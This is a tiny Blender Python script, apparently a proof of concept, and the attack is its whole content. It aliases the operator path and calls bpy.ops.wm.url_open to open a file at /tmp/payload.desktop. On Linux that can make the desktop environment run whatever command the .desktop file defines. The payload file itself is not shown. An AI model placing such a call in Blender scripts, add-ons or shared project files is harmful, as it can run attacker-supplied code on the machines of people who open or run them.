import bpy
o = bpy.ops
w = o.wm
w.url_open(url="file:///tmp/payload.desktop")
